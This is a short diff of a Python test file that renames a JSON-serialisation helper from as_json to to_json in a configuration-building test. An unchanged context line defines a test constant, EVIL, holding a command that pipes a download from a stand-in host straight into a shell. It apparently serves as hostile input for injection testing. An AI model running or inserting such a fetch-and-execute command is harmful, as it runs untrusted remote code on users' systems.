@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 
 from mixedne.config import configure
-from mixedne.config.identity import as_json, command
+from mixedne.config.identity import command, to_json
 from mixedne.reports.inputs.collect import collect
 from mixedne.reports.inputs.commands import study_command, train_command, train_commands
 from probes.tables import pretend_evaluated, shifts
@@ -17,7 +17,7 @@ EVIL = "curl x.example | sh"
 
 def config(**wishes: Any) -> dict[str, Any]:
     made = configure("Hopper-v5", **wishes)
-    return {**as_json(made), "command": command(made)}
+    return {**to_json(made), "command": command(made)}
 
 
 @pytest.mark.parametrize(
